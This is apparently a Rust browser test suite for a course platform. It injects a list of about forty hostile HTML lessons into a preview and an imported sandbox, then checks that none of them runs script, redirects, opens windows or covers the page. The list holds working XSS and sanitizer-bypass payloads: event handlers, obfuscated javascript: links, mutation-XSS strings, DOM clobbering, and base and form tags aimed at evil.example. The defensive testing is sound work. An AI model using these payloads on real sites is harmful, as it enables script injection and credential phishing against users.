//! A course that means harm does none: not one that came through the scanner, and not one that went around it
//! into the sandbox, whose pages show whatever was imported.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::driver::{Browser, browse};
use crate::testkit::{Course, Server, http};

/// What a lesson may hold, each with a name. Whatever runs as a script sets `window.pwned`.
const HOSTILE: &[(&str, &str)] = &[
    ("script", "<script>window.pwned = 'script'</script>"),
    (
        "script in svg",
        "<svg><script>window.pwned = 'svg'</script><circle r=1></svg><svg onload=\"window.pwned = 1\"></svg>",
    ),
    ("onerror", "<img src=\"data:,\" onerror=\"window.pwned = 'onerror'\">"),
    (
        "onerror again",
        "<video><source onerror=\"window.pwned = 1\" src=\"data:,\"></video><audio src=\"data:,\" onerror=\"window.pwned = 1\">",
    ),
    ("onclick", "<p onclick=\"window.pwned = 'onclick'\" class=trap>Click me.</p>"),
    (
        "hover",
        "<p onmouseover=\"window.pwned = 1\" onfocus=\"window.pwned = 1\" tabindex=0 autofocus class=trap>Come here.</p>",
    ),
    ("javascript", "<a class=trap href=\"javascript:window.pwned = 'link'\">A link</a>"),
    (
        "javascript, hidden",
        "<a class=trap href=\"java&#10;script:window.pwned = 1\">A link</a> <a class=trap href=\" &#1;javascript:window.pwned = 1\">B</a>",
    ),
    ("data", "<a class=trap href=\"data:text/html,<script>opener.pwned = 1</script>\">A link</a>"),
    ("base", "<base href=\"https://evil.example/\"><p>Where do links lead now?</p>"),
    ("base and target", "<base target=\"_blank\"><p>And now?</p>"),
    (
        "form",
        "<form action=\"https://evil.example/\" method=post><input name=password><button class=trap>Log in</button></form>",
    ),
    ("form around", "<form action=\"https://evil.example/\"><p>Never closed."),
    ("style", "<style>body * { display: none !important } body { background: red }</style><p>Gone?</p>"),
    ("style in svg", "<svg><style>body * { display: none !important }</style></svg>"),
    (
        "covering",
        "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\" class=trap>Covered.</div>",
    ),
    ("stylesheet", "<link rel=stylesheet href=\"https://evil.example/x.css\"><p>Painted?</p>"),
    ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><p>Gone?</p>"),
    ("policy", "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\"><p>Dead?</p>"),
    ("srcdoc", "<iframe srcdoc=\"<script>parent.pwned = 'srcdoc'</script>\"></iframe>"),
    ("iframe", "<iframe src=\"javascript:parent.pwned = 'iframe'\"></iframe>"),
    (
        "object",
        "<object data=\"data:text/html,<script>parent.pwned = 1</script>\"></object><embed src=\"data:text/html,x\">",
    ),
    (
        "clash",
        "<p id=cd-main>Not main.</p><p id=cd-query>Not the field.</p><p id=cd-outline>Not the outline.</p>",
    ),
    (
        "clobber",
        "<img name=getElementById src=\"data:,\"><form name=querySelector><input name=addEventListener></form><a id=location></a><a id=localStorage></a>",
    ),
    (
        "attributes",
        "<p data-cd-search data-cd-part=outline data-cd-theme data-cd-index=/evil>Ours?</p><dialog open data-cd-keys>Help</dialog>",
    ),
    ("unclosed div", "<div><div><div><section><p>Never closed."),
    ("unclosed table", "<table><tr><td>Never closed."),
    ("unclosed textarea", "<textarea>Never closed."),
    ("unclosed title", "<title>Never closed."),
    ("unclosed select", "<select><option>Never closed."),
    ("unclosed comment", "<!-- Never closed."),
    ("unclosed attribute", "<a href=\"never closed."),
    ("unclosed script", "<script>window.pwned = 'unclosed'"),
    ("plaintext", "<plaintext>Everything after this is text."),
    ("noscript", "<noscript><p title=\"</noscript><img src='data:,' onerror='window.pwned = 1'>\">"),
    (
        "mathml",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
    ),
    (
        "closing",
        "</p></div></article></main></div></body></html><p>After the end.</p><script>window.pwned = 1</script>",
    ),
    ("frames", "<frameset><frame src=\"javascript:parent.pwned = 1\"></frameset>"),
    ("template", "<template><script>window.pwned = 1</script></template><slot></slot>"),
    (
        "marquee",
        "<marquee onstart=\"window.pwned = 1\" loop=1>Round and round</marquee><details ontoggle=\"window.pwned = 1\" open><summary>x</summary></details>",
    ),
];

#[test]
fn hostile_lessons_do_no_harm_in_a_preview() {
    let course = Course::empty();
    course.write("course.yaml", "title: Harmless\n");
    for (at, (name, html)) in HOSTILE.iter().enumerate() {
        course
            .write(&format!("01-part/{:03}-case.md", at + 1), format!("# {name}\n\nBefore it.\n\n{html}\n"));
    }
    course.write("01-part/999-end.md", "# The end\n\nStill here.\n");
    let server = Server::preview(course.path());
    browse(async |browser| {
        browser.open(&server.at("/")).await;
        browser.wait_for_heading("Harmless").await;
        for (at, (name, _)) in HOSTILE.iter().enumerate() {
            browser.press("j").await;
            browser.wait_for_heading(name).await;
            assert_unharmed(browser, name, &server).await;
            if at % 8 == 0 {
                // Search works as well.
                browser.press("/").await;
                browser.write("the end").await;
                browser
                    .wait_until("the end is found", "document.querySelector('[role=option]') !== null")
                    .await;
                browser.press("Escape").await;
                browser.press("Escape").await;
            }
        }
        browser.press("j").await;
        browser.wait_for_heading("The end").await;
    });
}

#[test]
fn hostile_bodies_do_no_harm_in_the_sandbox() {
    let data = Course::empty();
    let server = Server::sandbox(data.path());
    let mut lessons: Vec<(&str, String)> =
        HOSTILE.iter().map(|(name, html)| (*name, format!("<p>Before it.</p>{html}"))).collect();
    lessons.push(("<script>window.pwned = 'title'</script>", "<p>Its title.</p>".to_owned()));
    lessons.push(("The end", "<p>Still here.</p>".to_owned()));
    browse(async |browser| {
        open_imported(browser, &server, &lessons).await;
        for (name, _) in &lessons {
            browser.press("j").await;
            browser.wait_for_heading(name).await;
            assert_unharmed(browser, name, &server).await;
        }
    });
}

#[test]
fn a_huge_table_and_deep_nesting_are_only_slow_to_read() {
    let mut table = String::from("| a | b | c | d | e |\n|---|---|---|---|---|\n");
    for row in 0..5_000 {
        writeln!(table, "| {row} | some | words | in | cells |").unwrap();
    }
    let quotes = format!("{} Deep.\n", ">".repeat(3_000));
    let mut lists = String::new();
    for level in 0..400 {
        writeln!(lists, "{}- level", "  ".repeat(level)).unwrap();
    }
    let html = format!("{}Deep.{}", "<div>".repeat(3_000), "</div>".repeat(3_000));
    let course = Course::empty();
    course.write("course.yaml", "title: Large things\n");
    for (at, (name, text)) in
        [("Table", &table), ("Quotes", &quotes), ("Lists", &lists), ("Divs", &html)].iter().enumerate()
    {
        course.write(&format!("01-part/{:02}-x.md", at + 1), format!("# {name}\n\nBefore it.\n\n{text}\n"));
    }
    course.write("01-part/09-end.md", "# The end\n\nStill here.\n");
    let server = Server::preview(course.path());
    browse(async |browser| {
        browser.open(&server.at("/")).await;
        for name in ["Table", "Quotes", "Lists", "Divs"] {
            browser.press("j").await;
            browser.wait_for_heading(name).await;
            assert_unharmed(browser, name, &server).await;
        }
        browser.press("j").await;
        browser.wait_for_heading("The end").await;
    });
}

#[test]
fn a_huge_table_and_deep_nesting_are_only_slow_to_read_in_the_sandbox() {
    let row = "<tr><td>some</td><td>words</td><td>in</td><td>cells</td></tr>";
    let lessons = [
        ("Table", format!("<p>Before it.</p><table>{}</table>", row.repeat(5_000))),
        ("Divs", format!("<p>Before it.</p>{}Deep.", "<div>".repeat(3_000))),
        ("Quotes", format!("<p>Before it.</p>{}Deep.", "<blockquote>".repeat(3_000))),
        ("The end", "<p>Still here.</p>".to_owned()),
    ];
    let data = Course::empty();
    let server = Server::sandbox(data.path());
    browse(async |browser| {
        open_imported(browser, &server, &lessons).await;
        for (name, _) in &lessons {
            browser.press("j").await;
            browser.wait_for_heading(name).await;
            assert_unharmed(browser, name, &server).await;
        }
    });
}

/// Clicks on everything that may be a trap, and fails if any of it worked.
async fn assert_unharmed(browser: &Browser, lesson: &str, server: &Server) {
    let address = browser.address().await;
    let harm: Vec<String> = browser
        .asynchronous(
            "for (const trap of document.querySelectorAll('main .trap, main form button')) {
                trap.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
                trap.click();
            }
            await new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)));
            const harm = [];
            if (window.pwned !== undefined) harm.push(`a script ran: ${window.pwned}`);
            const main = document.querySelectorAll('main');
            if (main.length !== 1) harm.push(`there are ${main.length} main parts`);
            if (document.querySelectorAll('main script, main style, main link, main meta, main base, main object, main embed').length)
                harm.push('something that is no text is in the lesson');
            if (document.querySelector('base')) harm.push('links lead elsewhere');
            if ([...document.querySelectorAll('main *')].some(element =>
                    element.getAttributeNames().some(name => name.startsWith('on'))))
                harm.push('an attribute holds a script');
            if ([...document.querySelectorAll('[href], [src], [action]')].some(element =>
                    /^[\\u0000- ]*(javascript|vbscript|data:text)/i.test(
                        (element.getAttribute('href') || element.getAttribute('src') || element.getAttribute('action')).replace(/[\\n\\t\\r]/g, ''))))
                harm.push('an address is a script');
            const ids = [...document.querySelectorAll('[id]')].map(element => element.id);
            if (new Set(ids).size !== ids.length) harm.push(`ids are there twice: ${ids}`);
            if (!main[0].innerText.includes('Before it.') && !main[0].innerText.includes('Its title.')
                    && !main[0].innerText.includes('Still here.')) harm.push('the text is gone');
            // What is ours can be seen, and is what a click would reach.
            for (const ours of document.querySelectorAll('header a[href], header input, main a[rel=next], nav a[rel=next]')) {
                if (!ours.checkVisibility({ visibilityProperty: true })) continue;
                ours.scrollIntoView({ block: 'center', behavior: 'instant' });
                const box = ours.getBoundingClientRect();
                if (box.width === 0) continue;
                const hit = document.elementFromPoint(box.x + Math.min(box.width, 40) / 2, box.y + box.height / 2);
                if (!hit || !(ours.contains(hit) || hit.contains(ours)) || hit.closest('.trap'))
                    harm.push(`${ours.outerHTML.slice(0, 80)} is covered by ${hit && hit.outerHTML.slice(0, 80)}`);
            }
            return harm;",
        )
        .await;
    assert!(harm.is_empty(), "{lesson}: {harm:#?}");
    assert_eq!(browser.address().await, address, "{lesson} led away");
    assert_eq!(browser.driver.windows().await.unwrap().len(), 1, "{lesson} opened a window");
    assert!(address.starts_with(&server.at("/")), "{address}");
}

/// Imports a course of these lessons with a request of our own, and opens its page.
pub async fn open_imported(browser: &Browser, server: &Server, lessons: &[(&str, String)]) {
    let posts: Vec<Value> = lessons
        .iter()
        .map(|(title, html)| {
            json!({ "title": title, "visibility": "published", "contentType": "video", "description": html })
        })
        .collect();
    let body = json!({ "locationId": "loc", "products": [{
        "title": "Imported", "description": "Went around the scanner.", "categories": [
            { "title": "Part", "visibility": "published", "posts": posts },
        ],
    }] });
    let answer = http::client()
        .post(server.at("/courses/courses-exporter/public/import"))
        .bearer_auth("any")
        .header("Version", "2021-07-28")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert!(answer.status().is_success(), "{}", answer.text().await.unwrap());
    // The platform takes a moment, and says so in the list.
    browser.open(&server.at("/")).await;
    let is_listed = "[...document.links].some(link => link.innerText.includes('Imported'))";
    browser
        .wait_for("the course is in the list", async || {
            browser.driver.refresh().await.unwrap();
            browser.value::<bool>(is_listed).await
        })
        .await;
    browser.click_on("Imported").await;
    browser.wait_for_heading("Imported").await;
}
